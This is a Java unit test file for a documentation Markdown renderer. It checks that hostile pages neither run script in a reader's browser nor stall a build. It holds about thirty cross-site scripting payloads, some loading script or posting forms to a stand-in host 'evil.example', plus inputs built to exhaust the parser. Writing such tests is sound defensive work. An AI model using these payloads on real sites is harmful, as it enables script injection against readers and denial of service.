package dev.portalsdk.techdocs.markdown;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Pages written to run code in a reader's browser, or to stall a build. */
class HostileMarkdownTest {

    private static final MarkdownRenderer RENDERER = MarkdownRenderer.builder()
            .snippets(path -> Optional.of("--8<-- \"a\"\n--8<-- \"b\"\n"))
            .build();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"x` `<script>alert(1)</script>\"` `>",
                "<a href=\"java&#x0A;script:alert(1)\">x</a>",
                "<a href=\" &#14; javascript:alert(1)\">x</a>",
                "<svg><script>alert(1)</script></svg>",
                "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<style>@import 'https://evil.example'</style>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<form action=https://evil.example><input name=p><button>go</button></form>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<base href=https://evil.example><meta http-equiv=refresh content=0>",
                "<details ontoggle=alert(1) open>x</details>",
                "<div markdown onclick=\"alert(1)\" style=\"x\">\nx\n</div>",
                "[a](javascript:alert(1)) ![b](data:text/html,x) <javascript:alert(1)>",
                "[a]\n\n[a]: vbscript:x",
                "## T { onclick=alert(1) #x style=x }",
                "[a](u){ href=javascript:alert(1) src=javascript:alert(1) formaction=x }",
                "!!! note \"<script>alert(1)</script>\"\n    x",
                "??? note \"<img src=x onerror=alert(1)>\"\n    x",
                "=== \"<img src=x onerror=alert(1)>\"\n    x",
                "*[HTML]: \" onmouseover=\"alert(1)\n\nHTML",
                "```\"><script>alert(1)</script>\nx\n```",
                "```py title=\"<script>alert(1)</script>\" {#\"><script>}\nx\n```",
                "`#!\"><script> x`",
                "[^\"><script>]\n\n[^\"><script>]: x",
                "```mermaid\n</pre><script>alert(1)</script>\n```",
                "- [x] <input type=text autofocus onfocus=alert(1)>"
            })
    void nothingRuns(String markdown) {
        assertEquals(
                List.of(), Harmless.faults(RENDERER.render("p.md", markdown).html()));
    }

    static List<String> monsters() {
        int n = 30_000;
        return List.of(
                ">".repeat(n),
                "- ".repeat(n) + "x",
                "1. ".repeat(n),
                "[".repeat(n),
                "![".repeat(n) + "x" + "](u)".repeat(n),
                "*".repeat(n) + "a" + "*".repeat(n),
                "*a_ ".repeat(n),
                "`".repeat(n) + "a" + "`".repeat(n - 1),
                "^".repeat(n) + "a" + "^".repeat(n),
                "a^b c~d ==e {++f ".repeat(n),
                "^^a ~~b ==c ".repeat(n) + "== ~~ ^^".repeat(n),
                "<div>".repeat(n),
                "<div markdown>\n".repeat(n),
                "<a ".repeat(n),
                "<a href=\"".repeat(n),
                "<!--".repeat(n),
                "{: ".repeat(n) + "}".repeat(n),
                "# a { #b " + "c=d ".repeat(n) + "}",
                "## a\n".repeat(n / 3),
                "[TOC]\n\n".repeat(n / 10) + "## a\n".repeat(n / 10),
                "!!! note \"" + " \"".repeat(n),
                ladder("!!! note\n", n / 20),
                ladder("=== \"a\"\n", n / 20),
                "x\n:   y\n\n".repeat(n / 3),
                "*[a]: b\n".repeat(n) + "a ".repeat(n),
                "[^a]: [^b]\n[^b]: [^a]\n\n" + "[^a]".repeat(n),
                "| a ".repeat(n / 10) + "\n" + "|-".repeat(n / 10) + "\n" + "| b ".repeat(n / 10),
                "| a\n|-\n" + "| b\n".repeat(n),
                "--8<-- \"a\"\n",
                "&".repeat(n) + "&#x0;\u0000",
                ":a:".repeat(n),
                "1/2 ".repeat(n) + "1st ".repeat(n),
                "---\na: &a [*a]\n---\n",
                "---\n" + "[".repeat(n) + "\n---\n",
                "\uD800".repeat(n),
                "http://a.".repeat(n));
    }

    private static String ladder(String line, int steps) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < steps; i++) {
            text.append("    ".repeat(i)).append(line);
        }
        return text.append("    ".repeat(steps)).append("x").toString();
    }

    @ParameterizedTest
    @MethodSource("monsters")
    void noPageStallsABuild(String markdown) {
        MarkdownPage page = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> RENDERER.render("p.md", markdown));
        assertTrue(
                page.html().length() < 100L * markdown.length() + 3_000_000,
                "output " + page.html().length());
    }
}
